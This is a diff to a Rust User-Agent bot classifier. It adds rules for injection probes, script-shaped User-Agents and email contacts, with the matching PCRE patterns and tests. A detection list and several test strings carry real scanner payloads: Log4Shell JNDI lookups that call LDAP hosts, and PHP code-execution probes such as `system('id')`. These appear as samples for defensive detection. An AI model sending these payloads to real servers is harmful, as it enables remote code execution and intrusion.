@@ -14,12 +14,20 @@
 //! - a contact address introduced by `+` (`+http://...`, `+www.`), the
 //!   crawlers' convention;
 //!
+//! - code or a template where a name goes ([`INJECTIONS`]: `${jndi:`,
+//!   `<?php`, `{{.`), the scanners' probes;
+//! - the shape of a script's User-Agent ([`script_shape`]): one product and
+//!   nothing else (`Hakai/2.0`, `python`, `My User Agent 1.0`), unless it
+//!   names a device or a player (`iPhone15`, `iTunes-AppleTV/4.1`), or a bare
+//!   `Mozilla/5.0`, `Mozilla/5.0 Name` or `Mozilla/5.0 (compatible; Name/1.0)`;
+//!
 //! or, with no browser engine in it ([`ENGINES`]), a web or e-mail address,
 //! or a first product that an HTTP library's name ([`LIBRARY_WORDS`]).
 //!
-//! Every rule needs one of [`NEEDLES`] (or an `@`) somewhere in the
-//! User-Agent: the matcher's prefilter looks for them, so a browser's
-//! User-Agent, which has none, is answered without running these rules.
+//! Every rule but the script's shape needs one of [`NEEDLES`] (or an `@`)
+//! somewhere in the User-Agent: the matcher's prefilter looks for them, so a
+//! browser's User-Agent, which has none, is answered by [`script_shape`]
+//! alone, which gives up at its first comment.
 //! The stock render writes the same rules for nginx's PCRE ([`pcre`]); a
 //! test runs both on the same strings.
 
@@ -30,10 +38,16 @@ pub const SUFFIX_WORDS: [&str; 17] = [
 ];
 
 /// Words that make a bot when they start a word (the byte before is not a letter).
-pub const PREFIX_WORDS: [&str; 5] = ["crawl", "spider", "scraper", "scraping", "scrapy"];
+/// `scanner` only so (`jsjcw_scanner`, not `CamScanner`); Apache Nutch's name
+/// is one: its crawlers send `TheirName/Nutch-1.7`.
+pub const PREFIX_WORDS: [&str; 8] = ["crawl", "spider", "scraper", "scraping", "scrapy", "scanner", "monitoring", "nutch"];
 
 /// Markers of headless browsers and browser automation, anywhere.
 pub const HEADLESS: [&str; 10] = ["headless", "phantomjs", "selenium", "webdriver", "playwright", "puppeteer", "htmlunit", "jsdom", "lightpanda", "slimerjs"];
+
+/// Code or a template where a name goes: Log4Shell's `${jndi:`, PHP's open
+/// tags, a Go template left unfilled.
+pub const INJECTIONS: [&str; 4] = ["${jndi", "<?=", "<?php", "{{."];
 
 /// A browser engine's tokens: a User-Agent with one of them is not judged by
 /// its addresses or its first product.
@@ -48,10 +62,10 @@ const DEVICE: [&str; 10] = ["android", "hbbtv", "smart-tv", "smarttv", "tizen", 
 
 /// What every rule needs somewhere in the User-Agent (lower case), besides
 /// an `@`: each rule's words contain one of these.
-pub const NEEDLES: [&str; 29] = [
-    "bot", "crawl", "spider", "slurp", "scrap", "fetch", "checker", "monitor", "preview", "archiver", "indexer", "harvester", "validator",
-    "headless", "phantomjs", "selenium", "webdriver", "playwright", "puppeteer", "htmlunit", "jsdom", "lightpanda", "slimerjs", "http",
-    "www.", "request", "curl", "urllib", "wget",
+pub const NEEDLES: [&str; 35] = [
+    "bot", "crawl", "spider", "slurp", "scrap", "scanner", "nutch", "fetch", "checker", "monitor", "preview", "archiver", "indexer", "harvester",
+    "validator", "headless", "phantomjs", "selenium", "webdriver", "playwright", "puppeteer", "htmlunit", "jsdom", "lightpanda", "slimerjs",
+    "${jndi", "<?=", "<?php", "{{.", "http", "www.", "request", "curl", "urllib", "wget",
 ];
 
 /// Which rule found a bot.
@@ -61,8 +75,12 @@ pub enum Signal {
     Word,
     /// A headless browser's or an automation tool's marker.
     Headless,
-    /// A `+http`, `+https` or `+www.` contact.
+    /// Code or a template where a name goes.
+    Injection,
+    /// A `+http`, `+https`, `+www.` or `+` e-mail contact.
     Contact,
+    /// The shape of a script's User-Agent.
+    Shape,
     /// A web or e-mail address in a User-Agent with no browser engine.
     Address,
     /// A first product named like an HTTP library, with no browser engine.
@@ -74,16 +92,17 @@ impl Signal {
         match self {
             Signal::Word => "a bot word",
             Signal::Headless => "a headless browser's marker",
+            Signal::Injection => "code or a template where a name goes",
             Signal::Contact => "a +http contact",
+            Signal::Shape => "a script's shape: one product, or a bare Mozilla",
             Signal::Address => "an address and no browser engine",
             Signal::Library => "an HTTP library's name and no browser engine",
         }
     }
 }
 
-/// A bot the catalogue does not name: why, and its name (the product token
-/// holding the bot word, else its first product: start and length in the
-/// User-Agent; None when it has no printable token).
+/// A bot the catalogue does not name: why, and its name (start and length
+/// in the User-Agent; see [`name`]).
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
 pub struct Bot {
     pub signal: Signal,
@@ -92,15 +111,21 @@ pub struct Bot {
 
 /// Whether `ua` reads as a bot, and its name.
 pub fn bot(ua: &[u8]) -> Option<Bot> {
+    let found = |signal, at| Some(Bot { signal, token: name(ua, at) });
     if let Some(at) = word_at(ua) {
-        return Some(Bot { signal: Signal::Word, token: token_around(ua, at) });
+        return found(Signal::Word, Some(at));
     }
-    if let Some(at) = HEADLESS.iter().find_map(|m| find(ua, m.as_bytes())) {
-        return Some(Bot { signal: Signal::Headless, token: token_around(ua, at) });
+    if let Some(at) = HEADLESS_SET.find(ua, |_, _| true) {
+        return found(Signal::Headless, Some(at));
+    }
+    if INJECTION_SET.find(ua, |_, _| true).is_some() {
+        return found(Signal::Injection, None);
     }
     let signal = if plus_contact(ua) {
         Signal::Contact
-    } else if ENGINES.iter().any(|e| contains(ua, e.as_bytes())) {
+    } else if script_shape(ua) {
+        Signal::Shape
+    } else if engine(ua) {
         return None;
     } else if web_address(ua) || email(ua) {
         Signal::Address
@@ -109,33 +134,185 @@ pub fn bot(ua: &[u8]) -> Option<Bot> {
     } else {
         return None;
     };
-    Some(Bot { signal, token: first_product(ua) })
+    found(signal, None)
 }
+
+fn engine(ua: &[u8]) -> bool {
+    ENGINE_SET.find(ua, |_, _| true).is_some()
+}
+
+/// Words looked for case-insensitively in one pass over a User-Agent: at
+/// each byte only the words that start with it are compared, so a long
+/// string with none of them costs a table read a byte, not a comparison a
+/// byte and a word.
+pub struct WordSet {
+    words: &'static [&'static str],
+    /// Bit i: word i starts with this byte (either case).
+    by_first: [u32; 256],
+}
+
+impl WordSet {
+    /// At most 32 words, lower case.
+    pub const fn new(words: &'static [&'static str]) -> WordSet {
+        assert!(words.len() <= 32, "a word set holds at most 32 words");
+        let mut by_first = [0u32; 256];
+        let mut i = 0;
+        while i < words.len() {
+            let first = words[i].as_bytes()[0];
+            by_first[first.to_ascii_lowercase() as usize] |= 1 << i;
+            by_first[first.to_ascii_uppercase() as usize] |= 1 << i;
+            i += 1;
+        }
+        WordSet { words, by_first }
+    }
+
+    /// The first place of `hay` where a word starts and `accept(place,
+    /// word's index)` holds.
+    pub fn find(&self, hay: &[u8], mut accept: impl FnMut(usize, usize) -> bool) -> Option<usize> {
+        for (place, b) in hay.iter().enumerate() {
+            let mut starting = self.by_first[usize::from(*b)];
+            while starting != 0 {
+                let w = starting.trailing_zeros() as usize;
+                starting &= starting - 1;
+                if starts_ci(&hay[place..], self.words[w].as_bytes()) && accept(place, w) {
+                    return Some(place);
+                }
+            }
+        }
+        None
+    }
+}
+
+/// [`SUFFIX_WORDS`] then [`PREFIX_WORDS`], for one pass.
+const FIELD_WORDS: [&str; SUFFIX_WORDS.len() + PREFIX_WORDS.len()] = {
+    let mut all = [""; SUFFIX_WORDS.len() + PREFIX_WORDS.len()];
+    let mut i = 0;
+    while i < all.len() {
+        all[i] = if i < SUFFIX_WORDS.len() { SUFFIX_WORDS[i] } else { PREFIX_WORDS[i - SUFFIX_WORDS.len()] };
+        i += 1;
+    }
+    all
+};
+static FIELD_SET: WordSet = WordSet::new(&FIELD_WORDS);
+static HEADLESS_SET: WordSet = WordSet::new(&HEADLESS);
+static INJECTION_SET: WordSet = WordSet::new(&INJECTIONS);
+static ENGINE_SET: WordSet = WordSet::new(&ENGINES);
+static WEB_ADDRESS_SET: WordSet = WordSet::new(&["http://", "https://", "www."]);
+
+/// A bot's name: the token holding its bot word or marker (at `at`), unless
+/// that is a web address's or is the bare word (`Bot/1.0`); else its first
+/// product (see [`first_product`]); else the host of its contact or address
+/// (`+https://whatis.contentkingapp.com` names `whatis.contentkingapp.com`).
+fn name(ua: &[u8], at: Option<usize>) -> Option<(usize, usize)> {
+    let bare = |(s, n): (usize, usize)| {
+        let t = &ua[s..s + n];
+        SUFFIX_WORDS.iter().chain(&PREFIX_WORDS).any(|w| t.eq_ignore_ascii_case(w.as_bytes()))
+    };
+    at.and_then(|at| token_around(ua, at).filter(|t| !bare(*t) && !in_address(ua, t.0)))
+        .or_else(|| first_product(ua).filter(|(s, _)| !in_address(ua, *s)))
+        .or_else(|| address_host(ua))
+}
+
+/// Whether `at` is in a web address: its word (between spaces, tabs and
+/// the separators of comments) starts with `http`, `www.` or `+`, or holds `://`.
+fn in_address(ua: &[u8], at: usize) -> bool {
+    let separator = |b: &u8| matches!(b, b' ' | b'\t' | b'(' | b')' | b';');
+    let start = ua[..at].iter().rposition(separator).map_or(0, |p| p + 1);
+    let end = ua[at..].iter().position(separator).map_or(ua.len(), |p| at + p);
+    let word = &ua[start..end];
+    word.first() == Some(&b'+') || starts_ci(word, b"http") || starts_ci(word, b"www.") || contains(word, b"://")
+}
+
+/// The host of the first web address (`http://`, `https://` or `www.`), or
+/// the domain of the first e-mail address.
+fn address_host(ua: &[u8]) -> Option<(usize, usize)> {
+    let host_byte = |b: &u8| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-');
+    let web = [&b"://"[..], b"www."].iter().filter_map(|m| find(ua, m).map(|i| if m[0] == b':' { i + 3 } else { i })).min();
+    let at = web.or_else(|| ua.iter().position(|b| *b == b'@').map(|i| i + 1))?;
+    let n = ua[at..].iter().take_while(|b| host_byte(b)).count().min(MAX_TOKEN);
+    (n > 0).then_some((at, n))
+}
+
+/// Words of the devices and players whose own User-Agent is one product
+/// (`iPhone15`, `Apple-iPad2C7/1002.329`, `Karbonn K595 WAP-Browser/1.0.0`,
+/// `iTunes-AppleTV/4.1`, `bPod`, `nook browser/1.0`).
+pub const LONE_DEVICES: [&str; 8] = ["iphone", "ipad", "apple", "wap", "browser", "tv", "pod", "nook"];
+
+/// The shape of a script's User-Agent: one product and nothing else (a name
+/// of letters, digits, spaces and `._:%-`, then at most `/` and a version),
+/// with none of [`LONE_DEVICES`]; or `Mozilla/` and a version, then nothing,
+/// one name, `(compatible)` or `(compatible; Name/version)`.
+/// A browser's User-Agent fails at its first comment.
+pub fn script_shape(ua: &[u8]) -> bool {
+    // most browsers: a comment after `Mozilla/5.0`, and more after it
+    if ua.starts_with(b"Mozilla/5.0 (") && ua.last() != Some(&b')') {
+        return false;
+    }
+    let n = ua.iter().position(|b| !NAME_BYTE[usize::from(*b)]).unwrap_or(ua.len());
+    if n == 0 {
+        return false;
+    }
+    if n == ua.len() {
+        return !lone_device(ua);
+    }
+    if ua[n] != b'/' {
+        return false;
+    }
+    let after = &ua[n + 1..];
+    let v = usize::from(matches!(after.first(), Some(b'v' | b'V')));
+    let digits = after[v..].iter().position(|b| !(b.is_ascii_digit() || *b == b'.')).unwrap_or(after.len() - v);
+    if digits == 0 || !after[v].is_ascii_digit() {
+        return false;
+    }
+    let rest = &after[v + digits..];
+    if rest.is_empty() {
+        return !lone_device(ua);
+    }
+    if v == 1 {
+        return false;
+    }
+    // `Mozilla/5.0` and a name, or a `compatible` comment that ends the User-Agent
+    let word = |w: &[u8]| !w.is_empty() && w.iter().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'-'));
+    let mozilla = || ua[..n].eq_ignore_ascii_case(b"mozilla");
+    if ua.last() != Some(&b')') {
+        return rest.strip_prefix(b" ").is_some_and(word) && mozilla();
+    }
+    let Some(inner) = rest.strip_prefix(b" (").and_then(|r| r.strip_suffix(b")")) else { return false };
+    if !mozilla() || !starts_ci(inner, b"compatible") {
+        return false;
+    }
+    let Some(item) = inner[10..].strip_prefix(b"; ") else { return inner.len() == 10 };
+    // a version, as the scripts write it: `(compatible; Amiga-AWeb)` is a browser
+    let version = |v: &[u8]| v.first().is_some_and(u8::is_ascii_digit) && v.iter().all(|b| b.is_ascii_digit() || *b == b'.');
+    item.iter().position(|b| *b == b'/').is_some_and(|p| word(&item[..p]) && version(&item[p + 1..]))
+}
+
+/// Whether a lone product names a device or a player ([`LONE_DEVICES`]).
+fn lone_device(ua: &[u8]) -> bool {
+    let lower = ua.to_ascii_lowercase();
+    LONE_DEVICES.iter().any(|d| lower.windows(d.len()).any(|w| w == d.as_bytes()))
+}
+
+/// The bytes of a lone product's name: letters, digits, space and `._:%-`.
+static NAME_BYTE: [bool; 256] = {
+    let mut t = [false; 256];
+    let mut b = 0;
+    while b < 256 {
+        let c = b as u8;
+        t[b] = c.is_ascii_alphanumeric() || matches!(c, b' ' | b'.' | b'_' | b':' | b'%' | b'-');
+        b += 1;
+    }
+    t
+};
 
 /// Where the first word of the field starts, outside the device comments.
 fn word_at(ua: &[u8]) -> Option<usize> {
     let letter = |i: usize| ua.get(i).is_some_and(|b| b.is_ascii_alphabetic());
-    let mut excluded = device_comments(ua).peekable();
-    let mut i = 0;
-    while i < ua.len() {
-        // skip a device comment's text (the '(' itself is no word)
-        if let Some(&(start, end)) = excluded.peek() {
-            if i > start {
-                if i < end {
-                    i = end;
-                    continue;
-                }
-                excluded.next();
-                continue;
-            }
-        }
-        let at = |w: &str| ua[i..].len() >= w.len() && ua[i..i + w.len()].eq_ignore_ascii_case(w.as_bytes());
-        if SUFFIX_WORDS.iter().any(|w| at(w) && !letter(i + w.len())) || (i == 0 || !letter(i - 1)) && PREFIX_WORDS.iter().any(|w| at(w)) {
-            return Some(i);
-        }
-        i += 1;
-    }
-    None
+    FIELD_SET.find(ua, |at, w| {
+        let field_word = if w < SUFFIX_WORDS.len() { !letter(at + FIELD_WORDS[w].len()) } else { at == 0 || !letter(at - 1) };
+        // a device comment's text is no word (the '(' itself starts none)
+        field_word && !device_comments(ua).any(|(open, end)| open < at && at < end)
+    })
 }
 
 /// Whether a claim may start at `at` as far as device comments go: outside
@@ -200,9 +377,10 @@ fn token_around(ua: &[u8], at: usize) -> Option<(usize, usize)> {
     (end > start).then_some((start, (end - start).min(MAX_TOKEN)))
 }
 
-/// The first product's name; for a `Mozilla/...` User-Agent, the first item
-/// of its first comment that is not `compatible`, `U` or a platform
-/// (`Windows NT 10.0`, `X11`), or none.
+/// The first product's name; for a `Mozilla/...` User-Agent with no browser
+/// engine, the first item of its first comment that is not `compatible`, `U`
+/// or a platform (`Windows NT 10.0`, `X11`), or with no comment the product
+/// after it; or none.
 fn first_product(ua: &[u8]) -> Option<(usize, usize)> {
     let start = ua.iter().position(|b| !matches!(b, b' ' | b'\t'))?;
     let first = token_around(ua, start);
@@ -210,7 +388,15 @@ fn first_product(ua: &[u8]) -> Option<(usize, usize)> {
     if !ua[s..s + n].eq_ignore_ascii_case(b"mozilla") {
         return first;
     }
-    let open = ua.iter().position(|b| *b == b'(')?;
+    // a browser's comment describes its platform and device
+    if engine(ua) {
+        return None;
+    }
+    let Some(open) = ua.iter().position(|b| *b == b'(') else {
+        // `Mozilla/5.0 Name`: the product after it
+        let next = s + n + ua[s + n..].iter().position(|b| matches!(b, b' ' | b'\t'))?;
+        return token_around(ua, next + 1).filter(|(t, _)| *t == next + 1);
+    };
     let mut i = open + 1;
     while i < ua.len() && ua[i] != b')' {
         while i < ua.len() && matches!(ua[i], b' ' | b'\t' | b';') {
@@ -232,33 +418,40 @@ fn first_product(ua: &[u8]) -> Option<(usize, usize)> {
 /// Comment items of browsers' User-Agents that name no bot.
 const PLATFORMS: [&str; 12] = ["compatible", "windows", "macintosh", "x11", "linux", "iphone", "ipad", "android", "cros", "ubuntu", "msie", "en-"];
 
-/// `+http:`, `+https:` or `+www.`, with at most one space or tab after the `+`.
+/// `+http:`, `+https:`, `+www.` or `+` and an e-mail address, with at most
+/// one space or tab after the `+`.
 fn plus_contact(ua: &[u8]) -> bool {
     ua.iter().enumerate().any(|(i, b)| {
         *b == b'+' && {
             let rest = &ua[i + 1..];
             let rest = if rest.first().is_some_and(|b| matches!(b, b' ' | b'\t')) { &rest[1..] } else { rest };
-            starts_ci(rest, b"http:") || starts_ci(rest, b"https:") || starts_ci(rest, b"www.")
+            let mailbox = rest.iter().take_while(|b| email_name(**b)).count();
+            starts_ci(rest, b"http:") || starts_ci(rest, b"https:") || starts_ci(rest, b"www.") || mailbox > 0 && email_at(rest, mailbox)
         }
     })
+}
+
+fn email_name(b: u8) -> bool {
+    b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'-')
+}
+
+/// Whether `ua[i]` is the `@` of an e-mail address's domain: a label, `.`, a letter.
+fn email_at(ua: &[u8], i: usize) -> bool {
+    ua.get(i) == Some(&b'@') && {
+        let rest = &ua[i + 1..];
+        let n = rest.iter().take_while(|b| b.is_ascii_alphanumeric() || **b == b'-').count();
+        n > 0 && rest.get(n) == Some(&b'.') && rest.get(n + 1).is_some_and(|b| b.is_ascii_alphabetic())
+    }
 }
 
 /// `http://`, `https://` or `www.` anywhere.
 fn web_address(ua: &[u8]) -> bool {
-    contains(ua, b"http://") || contains(ua, b"https://") || contains(ua, b"www.")
+    WEB_ADDRESS_SET.find(ua, |_, _| true).is_some()
 }
 
 /// An e-mail address: a byte of a name, `@`, a domain label, `.`, a letter.
 fn email(ua: &[u8]) -> bool {
-    let name = |b: u8| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'-');
-    let label = |b: u8| b.is_ascii_alphanumeric() || b == b'-';
-    ua.iter().enumerate().any(|(i, b)| {
-        *b == b'@' && i > 0 && name(ua[i - 1]) && {
-            let rest = &ua[i + 1..];
-            let n = rest.iter().take_while(|b| label(**b)).count();
-            n > 0 && rest.get(n) == Some(&b'.') && rest.get(n + 1).is_some_and(|b| b.is_ascii_alphabetic())
-        }
-    })
+    (1..ua.len()).any(|i| email_name(ua[i - 1]) && email_at(ua, i))
 }
 
 /// The first product (up to a space, tab, `/` or a comment's separator) has
@@ -288,10 +481,14 @@ fn find(hay: &[u8], needle: &[u8]) -> Option<usize> {
 pub fn pcre() -> Vec<String> {
     let words = pcre_words();
     let no_engine = format!("^(?!.*(?:{}))", ENGINES.iter().map(|e| pcre_literal(e)).collect::<Vec<_>>().join("|"));
+    let any = |words: &[&str]| words.iter().map(|w| pcre_escaped(w)).collect::<Vec<_>>().join("|");
     vec![
         format!("{}(?:{words})", pcre_outside_devices()),
-        HEADLESS.iter().map(|m| pcre_literal(m)).collect::<Vec<_>>().join("|"),
-        "\\+[ \\t]?(?:https?:|www\\.)".to_string(),
+        any(&HEADLESS),
+        any(&INJECTIONS),
+        "\\+[ \\t]?(?:https?:|www\\.|[a-z0-9._-]+@[a-z0-9-]+\\.[a-z])".to_string(),
+        format!("^(?!.*(?:{}))[a-z0-9 ._:%-]+(?:/v?[0-9][0-9.]*)?\\z", any(&LONE_DEVICES)),
+        "^mozilla/[0-9][0-9.]*(?: [a-z0-9_.-]+| \\(compatible(?:; [a-z0-9_.-]+/[0-9][0-9.]*)?\\))?\\z".to_string(),
         format!("{no_engine}.*(?:https?://|www\\.|[a-z0-9._-]@[a-z0-9-]+\\.[a-z])"),
         format!("{no_engine}[ \\t]*[^ \\t/;(),]*(?:{})", LIBRARY_WORDS.iter().map(|w| pcre_literal(w)).collect::<Vec<_>>().join("|")),
     ]
@@ -334,6 +531,11 @@ pub fn pcre_device_item() -> String {
     format!("(?:(?:\\((?=[^()]*{device})|(?<={PCRE_AFTER_ANDROID})\\()(?:[^;()]*;)*?[ \\t]*(?=[^ \\t;()/]+/))?")
 }
 
+/// A literal for PCRE, every byte but a letter or a digit escaped.
+fn pcre_escaped(s: &str) -> String {
+    s.chars().map(|c| if c.is_ascii_alphanumeric() { c.to_string() } else { format!("\\{c}") }).collect()
+}
+
 /// A literal for PCRE: `.` and `-` escaped, a space or tab as `[ \t]` where
 /// the Rust rule takes either (the device markers `cros `).
 fn pcre_literal(s: &str) -> String {
@@ -352,7 +554,7 @@ mod tests {
     fn bot_words_contacts_libraries_and_headless_browsers() {
         for (ua, token) in [
             ("Mozilla/5.0 (compatible; Rivetbot/1.0; +https://example.net/bot)", "Rivetbot"),
-            ("Clickagy Intelligence Bot v2", "Bot"),
+            ("Clickagy Intelligence Bot v2", "Clickagy"),
             ("Mozilla/5.0 (compatible; ICC-Crawler/3.0)", "ICC-Crawler"),
             ("site-checker/1.0 (+https://example.com)", "site-checker"),
             ("crawling-test/2", "crawling-test"),
@@ -361,7 +563,24 @@ mod tests {
             ("Mozilla/5.0 (compatible; Ezooms/1.0; help@moz.com)", "Ezooms"),
             ("Google-HTTP-Java-Client/1.17.0-rc (gzip)", "Google-HTTP-Java-Client"),
             ("Foo/1.0 (+http://foo.example/info)", "Foo"),
-            ("Mozilla/5.0 (Windows NT 10.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120 Safari/537.36 (+https://example.com/about)", "-"),
+            ("Mozilla/5.0 (Windows NT 10.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120 Safari/537.36 (+https://example.com/about)", "example.com"),
+            ("Mozilla/5.0 (compatible; YandexNewslinks; +http://yandex.com/bots)", "YandexNewslinks"),
+            ("TweetedTimes Bot/1.0 (Mozilla/5.0 Compatible, +http://tweetedtimes.com)", "TweetedTimes"),
+            ("Mozilla/5.0 (Windows NT 6.1; rv:6.0) Gecko/20110814 Firefox/6.0 Google (+https://developers.google.com/+/web/snippet/)", "developers.google.com"),
+            ("CB/Nutch-1.7", "Nutch-1.7"),
+            ("your sipder name/Nutch-1.7", "Nutch-1.7"),
+            ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/59.0 Safari/537.36; +collection@infegy.com", "infegy.com"),
+            ("${jndi:ldap://${hostName}.useragent.example.oast.live}", "-"),
+            ("Mozilliqa\"<?=print(9347655345-4954366);?>\"", "Mozilliqa\"<?=print"),
+            ("{{.custom_user_agent}}", "{{.custom_user_agent}}"),
+            ("Hakai/2.0", "Hakai"),
+            ("python", "python"),
+            ("My User Agent 1.0", "My"),
+            ("Chrome", "Chrome"),
+            ("Mozilla/5.0", "-"),
+            ("Mozilla/5.0 Jorgee", "Jorgee"),
+            ("Mozilla/5.0 (compatible)", "-"),
+            ("Mozilla/5.0 (compatible; Crusader/1.0)", "Crusader"),
         ] {
             assert_eq!(name(ua).as_deref(), Some(token), "{ua}");
         }
@@ -372,7 +591,7 @@ mod tests {
             ("abot", "abot"),
             ("MegaCRAWLer-X/2.0 (+http://x)", "MegaCRAWLer-X"),
             ("Mozilla/5.0 (compatible; slurp)", "slurp"),
-            ("x\u{e9}bot", "bot"),
+            ("x\u{e9}bot", "x"),
         ] {
             assert_eq!(name(ua).as_deref(), Some(token), "{ua}");
         }
@@ -381,6 +600,43 @@ mod tests {
             assert_eq!(name(ua), None, "{ua}");
         }
         assert_eq!(bot(b"Google-HTTP-Java-Client/1.17.0-rc (gzip)").unwrap().signal, Signal::Library);
+        for (ua, signal) in [
+            ("${jndi:ldap://x.example/a}", Signal::Injection),
+            ("Mozilla/5.0 (Windows NT 10.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120 Safari/537.36 <?php system('id'); ?>", Signal::Injection),
+            ("Mozilla/5.0 (compatible; +centuryb.o.t9@gmail.com)", Signal::Contact),
+            ("Hakai/2.0", Signal::Shape),
+            ("Mozilla/5.0 (compatible; Kaupr/1.0)", Signal::Shape),
+        ] {
+            assert_eq!(bot(ua.as_bytes()).map(|b| b.signal), Some(signal), "{ua}");
+        }
+    }
+
+    #[test]
+    fn a_script_has_a_scripts_shape() {
+        for ua in ["Hakai/2.0", "Insomania/1.0", "Zeus", "My User Agent 1.0", "CF-UC User Agent v.1d.99613", "gbrmss/7.29.0", "x/v2.1", "Mozilla/4.0", "Mozilla/5.0 Jorgee", "Mozilla/5.0 (compatible)", "Mozilla/5.0 (Compatible; wp2shell-check/1.0)"] {
+            assert!(script_shape(ua.as_bytes()), "{ua}");
+        }
+        for ua in [
+            "",
+            "iPhone15ProMax",
+            "Apple-iPad2C7/1002.329",
+            "Karbonn K595 WAP-Browser/1.0.0",
+            "iTunes-AppleTV/4.1",
+            "bPod",
+            "nook browser/1.0",
+            "Hakai/2.0 ",
+            "Hakai/2.0\n",
+            "Hakai/beta",
+            "Name/1.0 Other/2.0",
+            "Mozilla/5.0 (compatible;)",
+            "Mozilla/6.0 (compatible; Amiga-AWeb)",
+            "Mozilla/5.0 (compatible; IBrowse 3.0; AmigaOS4.0)",
+            "Mozilla/3.0 (WorldGate Gazelle 3.5.1 build 11; FreeBSD2.2.8-STABLE)",
+            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
+            "Mozilla/5.0 (compatible; Name/1.0) Extra",
+        ] {
+            assert!(!script_shape(ua.as_bytes()), "{ua}");
+        }
     }
 
     #[test]
@@ -403,9 +659,10 @@ mod tests {
 
     #[test]
     fn every_rule_needs_a_needle() {
-        // the prefilter looks for NEEDLES and '@': each rule's words hold one
+        // the prefilter looks for NEEDLES and '@': each rule's words hold one (a
+        // script's shape, which needs none, is looked at without them)
         let needle = |w: &str| w.contains('@') || NEEDLES.iter().any(|n| w.to_ascii_lowercase().contains(n));
-        for w in SUFFIX_WORDS.iter().chain(&PREFIX_WORDS).chain(&HEADLESS).chain(&LIBRARY_WORDS).chain(["http:", "https:", "www."].iter()) {
+        for w in SUFFIX_WORDS.iter().chain(&PREFIX_WORDS).chain(&HEADLESS).chain(&INJECTIONS).chain(&LIBRARY_WORDS).chain(["http:", "https:", "www."].iter()) {
             assert!(needle(w), "{w}");
         }
     }
